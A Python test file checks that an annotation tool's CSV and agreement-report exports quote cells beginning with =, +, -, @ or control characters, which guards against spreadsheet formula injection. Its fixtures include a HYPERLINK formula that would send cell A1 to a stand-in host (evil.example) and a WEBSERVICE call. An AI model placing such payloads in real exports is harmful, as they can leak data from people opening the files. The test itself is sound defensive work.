"""CSV files are read by spreadsheets: no cell Glossa writes may start a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from core.commands import AddTag
from core.exporters.agreement_report import export_agreement_report
from core.exporters.csv import export_csv
from core.formats.spreadsheet import FORMULA_STARTS, spreadsheet_text
from core.model import DecisionAction, Tag, new_id
from core.review.adjudication import decide
from core.review.disagreements import find_all_disagreements
from tests.core.helpers import add_document, new_project

TEXT = "-5 Grad in Kyjiw. +49 30 1234 ruft an. @ministerin schreibt. Ein Satz.\n"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Quelle")'


def read_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK])
def test_a_formula_start_gets_a_quote(value: str) -> None:
    assert spreadsheet_text(value) == "'" + value


@pytest.mark.parametrize("value", ["", "Grüße", "1-1", " =1", "'=1", "„=1“", "{\"a\": 1}"])
def test_other_text_is_left_alone(value: str) -> None:
    assert spreadsheet_text(value) == value


def test_annotation_csv_neutralises_every_text_cell(tmp_path: Path) -> None:
    with new_project(tmp_path) as p:
        doc = add_document(p, TEXT, title="=WEBSERVICE(\"http://x\")")
        p.execute(AddTag(Tag(new_id(), "+Tag")))
        for sentence, note, author in (("-5 Grad in Kyjiw.", HYPERLINK, "@anna"),
                                       ("+49 30 1234 ruft an.", "\tversteckt", "Anna"),
                                       ("@ministerin schreibt.", "\r\n=1+1", "-Boris"),
                                       ("Ein Satz.", "harmlos, =1", "Anna")):
            start = TEXT.index(sentence)
            p.annotate(doc, start, start + len(sentence), "+Tag", note=note, author=author)
        export_csv(p, tmp_path / "a.csv")
    header, *rows = read_rows(tmp_path / "a.csv")
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    assert all(c["document_title"] == "'=WEBSERVICE(\"http://x\")" for c in cells)
    assert all(c["tag"] == "'+Tag" for c in cells)
    assert [c["text"] for c in cells] == ["'-5 Grad in Kyjiw.", "'+49 30 1234 ruft an.",
                                         "'@ministerin schreibt.", "Ein Satz."]
    assert [c["note"] for c in cells] == ["'" + HYPERLINK, "'\tversteckt", "'\r\n=1+1",
                                         "harmlos, =1"]
    assert [c["author"] for c in cells] == ["'@anna", "Anna", "'-Boris", "Anna"]
    # No cell of the file starts a formula, whatever column it is in.
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)


def test_agreement_report_csv_neutralises_text_but_not_its_numbers(tmp_path: Path) -> None:
    with new_project(tmp_path) as p:
        doc = add_document(p, TEXT, title="@Titel")
        p.execute(AddTag(Tag(new_id(), "=Thema")))
        # No sentence tagged alike: kappa is negative.
        for sentence, tag, author in (("-5 Grad in Kyjiw.", "=Thema", "-Anna"),
                                      ("+49 30 1234 ruft an.", "=Thema", "-Anna"),
                                      ("@ministerin schreibt.", "Note", "+Boris"),
                                      ("Ein Satz.", "Note", "+Boris")):
            start = TEXT.index(sentence)
            p.annotate(doc, start, start + len(sentence), tag, author=author)
        (one, *_) = find_all_disagreements(p, "-Anna", "+Boris")
        decide(p, one, DecisionAction.COMMENT, comment="=1+1", decided_by="@chefin")
        export_agreement_report(p, tmp_path / "r.csv", analyst_a="-Anna", analyst_b="+Boris",
                                fmt="csv")
    _, *rows = read_rows(tmp_path / "r.csv")
    table = {(t, r, c): v for t, r, c, v in rows}
    assert table["meta", "analyst_a", ""] == "'-Anna"
    assert table["meta", "analyst_b", ""] == "'+Boris"
    assert ("figures", "'=Thema", "kappa") in table
    assert ("confusion", "'=Thema", "Note") in table
    # A number Glossa computed, not text: no quote.
    assert float(table["figures", "overall", "kappa"]) < 0
    texts = {c: v for (t, r, c), v in table.items() if (t, r) == ("disagreements", one.id)}
    assert texts["comment"] == "'=1+1" and texts["decided_by"] == "'@chefin"
    text_cells = [v for (t, _, c), v in table.items()
                  if not (t == "figures" and c in {"kappa", "alpha"})]
    assert not any(v.startswith(FORMULA_STARTS) for v in text_cells)
